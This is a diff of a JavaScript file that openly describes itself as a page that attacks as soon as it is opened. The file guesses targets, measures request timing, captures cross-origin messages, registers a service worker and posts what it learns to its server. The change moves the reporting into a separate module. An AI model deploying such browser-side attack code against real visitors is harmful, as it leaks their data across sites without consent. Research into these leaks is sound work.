@@ -1,7 +1,7 @@
 // Attacks without a pause from the moment that the page is open, and tells its server.
 
 import { GUESSES, isGuessed, isTarget } from "./guesses.js";
-import { openTabs } from "./tabs.js";
+import { send, tell as report } from "./report.js";
 import { WAYS } from "./ways.js";
 
 const AT_ONCE = 64;
@@ -11,16 +11,10 @@ const OF_ASKING = [
   ...["startTime", "fetchStart", "responseEnd", "duration"],
 ];
 
-const told = [];
 let round = 0;
 
 function tell(what) {
-  told.push({ round, ...what });
-}
-
-async function send(path) {
-  const body = JSON.stringify(told.splice(0));
-  await fetch(path, { method: "POST", body }).catch(() => {});
+  report(round, what);
 }
 
 function tellOfRecords() {
@@ -54,7 +48,7 @@ async function attack() {
   });
   await Promise.all([...all, ...crowd()]);
   tellOfRecords();
-  await send("/told");
+  await send();
   round += 1;
 }
 
@@ -80,11 +74,6 @@ addEventListener("message", (message) => {
     tell({ way: "a message", url: message.origin, learned: [String(message.data)] });
   }
 });
-
-window.openTabs = async () => {
-  await openTabs(tell);
-  await send("/told");
-};
 
 await navigator.serviceWorker.register("/service_worker.js").catch(() => {});
 hang();
